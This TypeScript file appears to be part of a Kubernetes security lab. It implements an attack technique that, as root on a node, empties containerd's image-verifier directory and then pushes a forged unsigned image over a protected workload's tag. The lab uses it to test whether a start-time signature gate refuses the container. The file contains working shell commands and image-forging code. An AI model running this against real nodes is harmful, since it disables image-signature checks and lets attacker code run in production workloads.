/**
 * Attack (T1562.001 Impair Defenses, T1204.003 Malicious Image): root on
 * the node empties the directory of containerd's bindir image verifier.
 * containerd lists that directory on every verification and admits every
 * image when it is empty or missing (FACTS.md), so from then on CRI pulls
 * anything. Root pushes an unsigned image with its own content under the
 * protected workload's reference, and the workload is started as the
 * kubelet would (the image is not on the node yet, so it is pulled).
 *
 * What must catch it: not the pull gate, which is gone, but the start gate,
 * which checks the signature of what is on the node at every start, whatever
 * path the image took to get there (lab/gates/runtime-gate.ts): it refuses
 * the container, with its own refusal record.
 */
import { buildImage, pushImage } from '../../images/index.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, withContent } from './common.ts';
import { readInContainer, tryStart } from './start.ts';

/** containerd's bindir image verifier directory (lab/gates/component.ts writes the pull gate there). */
export const VERIFIER_BIN_DIR = '/opt/containerd/image-verifier/bin';
/** Where the attacker keeps what it took out. */
const ASIDE = '/var/tmp/attacker-verifiers';

/** Moves every verifier out of bin_dir; what was there (nothing on a node without the pull gate). */
export async function emptyVerifierDir(node: LabNodeHandle): Promise<Record<string, unknown>> {
  const r = await node.run(['sh', '-c', `mkdir -p ${ASIDE}; ls -A ${VERIFIER_BIN_DIR} 2>/dev/null || true`]);
  const before = r.stdout.toString().split('\n').filter(Boolean);
  if (before.length) await node.run(['sh', '-c', `mv ${VERIFIER_BIN_DIR}/* ${VERIFIER_BIN_DIR}/.[!.]* ${ASIDE}/ 2>/dev/null; ls -A ${VERIFIER_BIN_DIR} | wc -l | grep -qx 0`]);
  return { verifierBinDir: VERIFIER_BIN_DIR, verifiersBefore: before, verifiersMovedTo: before.length ? ASIDE : 'none on this node' };
}

export const pullVerifierEmpty: Technique = {
  name: 'pull-verifier-empty',
  async run({ node, attack, workload, pods }) {
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const evidence: Record<string, unknown> = await emptyVerifierDir(node);
    const ref = node.imageRef(workload.spec.image.repository, workload.spec.image.tag);
    // No signature annotations: the image is what root built, pushed over the tag the lab signed.
    const forged = await buildImage({ ...withContent(workload.spec.image, path, payload), annotations: undefined }, { busybox: async () => node.readFile('/bin/busybox') });
    await pushImage(node.registryUrl, forged);
    Object.assign(evidence, { ref, unsignedManifestDigest: forged.manifestDigest, onNodeBefore: (await node.cri.imageStatus(ref))?.id ?? null });

    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the unsigned image was pushed as ${ref}; the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    evidence.pulledImageId = (await node.cri.imageStatus(ref))?.id ?? null;
    const seen = await readInContainer(node, start.pod, path);
    evidence.contentSeen = seen.content.toString();
    return seen.content.toString() === payload
      ? { effect: true, reason: `with the verifier directory empty, the node pulled the unsigned ${ref} and runs it: the container reads the attacker's ${path}`, evidence, subjects: [forged.manifestDigest] }
      : { effect: false, reason: `the container runs but reads the original ${path}`, evidence };
  },
};
